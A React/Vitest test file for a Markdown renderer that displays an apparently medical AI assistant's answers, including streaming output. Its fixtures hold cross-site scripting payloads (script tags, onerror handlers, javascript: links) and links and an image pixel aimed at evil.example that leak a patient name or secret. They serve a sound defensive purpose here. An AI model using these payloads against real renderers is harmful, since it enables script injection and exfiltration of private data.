// @vitest-environment jsdom
import { cleanup, render } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { SafeMarkdown, StreamingMarkdown } from './SafeMarkdown';
import type * as markdown from './markdown';
import { dropHtml, parseMarkdown } from './markdown';

// the real parser, counted: a streaming answer must parse only when a line completes
vi.mock('./markdown', async (real) => {
  const actual = await real<typeof markdown>();
  return { ...actual, parseMarkdown: vi.fn(actual.parseMarkdown) };
});

afterEach(cleanup);

const html = (text: string) => render(<SafeMarkdown text={text} />).container;

describe('SafeMarkdown', () => {
  it('renders headings, lists, emphasis, code and tables as elements', () => {
    const c = html(
      '## Treatment\n\nFirst-line drugs:\n\n1. **Thiazide** diuretics\n2. *ACE inhibitors* such as `lisinopril`\n\n- item\n- other\n\n| drug | dose |\n|---|---|\n| metformin | 500 mg |\n\n```\nraw <b>code</b>\n```',
    );
    expect(c.querySelector('h5')!.textContent).toBe('Treatment');
    expect([...c.querySelectorAll('ol > li')].map((li) => li.textContent)).toEqual([
      'Thiazide diuretics',
      'ACE inhibitors such as lisinopril',
    ]);
    expect(c.querySelector('ol strong')!.textContent).toBe('Thiazide');
    expect(c.querySelector('ol em')!.textContent).toBe('ACE inhibitors');
    expect(c.querySelector('ol code')!.textContent).toBe('lisinopril');
    expect(c.querySelectorAll('ul > li')).toHaveLength(2);
    expect(c.querySelector('td')!.textContent).toBe('metformin');
    // Inside a code block the text is shown, not run as markup (and HTML-looking text is dropped before parsing).
    expect(c.querySelector('pre b')).toBeNull();
  });

  it('drops raw HTML: tags, scripts, event handlers and comments never reach the page', () => {
    const c = html(
      'Take <b>aspirin</b> daily.<script>alert(1)</script>\n\n<img src=x onerror="alert(2)">\n\n<iframe src="https://evil.example"></iframe><!-- hidden -->Done <a href="javascript:alert(3)">here</a>.',
    );
    for (const tag of ['b', 'script', 'img', 'iframe', 'a']) expect(c.querySelector(tag), tag).toBeNull();
    expect(c.textContent).toContain('Take aspirin daily.');
    expect(c.textContent).not.toContain('alert');
    expect(c.textContent).toContain('Done here.');
  });

  it('shows links the model wrote as text with the full URL, never live, and images never as images', () => {
    const c = html(
      'See [PubMed](https://pubmed.ncbi.nlm.nih.gov/) or [this](javascript:alert(1)) or [mail](mailto:a@b.org) or https://example.org/x.\n\n' +
        '[details](https://evil.example/?leak=patient%20name) ![scan](https://evil.example/pixel.png?d=secret)',
    );
    expect(c.querySelector('a')).toBeNull();
    expect(c.querySelector('img')).toBeNull();
    const links = [...c.querySelectorAll('[data-testid="model-link"]')].map((l) => l.textContent);
    expect(links).toEqual([
      'PubMed <https://pubmed.ncbi.nlm.nih.gov/>',
      'mail <mailto:a@b.org>',
      '<https://example.org/x>',
      'details <https://evil.example/?leak=patient%20name>',
      'scan <https://evil.example/pixel.png?d=secret>',
    ]);
    // A link to a script or data URL keeps only its text.
    expect(c.textContent).toContain('or this or');
    expect(c.textContent).not.toContain('javascript');
  });

  it('keeps line breaks of an answer written one finding per line, and Chinese text as is', () => {
    const c = html('上述问诊对话的诊疗报告如下：\r\n主诉：咳嗽、流涕。\r\n诊断：小儿咳嗽。');
    expect(c.querySelectorAll('br')).toHaveLength(2);
    expect(c.textContent).toBe('上述问诊对话的诊疗报告如下：主诉：咳嗽、流涕。诊断：小儿咳嗽。');
  });

  it('never throws on half-written Markdown while an answer streams', () => {
    for (const partial of ['**bold', '[link](http', '```\ncode', '| a | b |\n|--', '1. ', '> ', '<scr', '_x', '~~', '`'])
      expect(() => html(partial)).not.toThrow();
    expect(dropHtml('a <span class="x">b</span> c')).toBe('a b c');
    expect(parseMarkdown('snake_case_name')).toEqual([{ kind: 'paragraph', children: [{ kind: 'text', text: 'snake_case_name' }] }]);
  });
});

describe('StreamingMarkdown', () => {
  it('parses the complete lines and shows the line being written as plain text until it ends', () => {
    const { container, rerender } = render(<StreamingMarkdown text={'Give **aspirin**.\n- 100 mg dai'} streaming />);
    expect(container.querySelector('strong')!.textContent).toBe('aspirin');
    expect(container.querySelector('li')).toBeNull();
    expect(container.querySelector('.markdown-tail')!.textContent).toBe('- 100 mg dai');

    const parses = vi.mocked(parseMarkdown).mock.calls.length;
    rerender(<StreamingMarkdown text={'Give **aspirin**.\n- 100 mg daily'} streaming />);
    // the same complete lines: not parsed again
    expect(vi.mocked(parseMarkdown).mock.calls.length).toBe(parses);
    expect(container.querySelector('.markdown-tail')!.textContent).toBe('- 100 mg daily');

    rerender(<StreamingMarkdown text={'Give **aspirin**.\n- 100 mg daily\n'} streaming />);
    expect(container.querySelector('li')!.textContent).toBe('100 mg daily');
    expect(container.querySelector('.markdown-tail')).toBeNull();
    expect(vi.mocked(parseMarkdown).mock.calls.length).toBe(parses + 1);
  });

  it('is all Markdown once the answer has ended', () => {
    const { container } = render(<StreamingMarkdown text={'Give **aspirin**.\n- 100 mg daily'} streaming={false} />);
    expect(container.querySelector('li')!.textContent).toBe('100 mg daily');
    expect(container.querySelector('.markdown-tail')).toBeNull();
  });
});
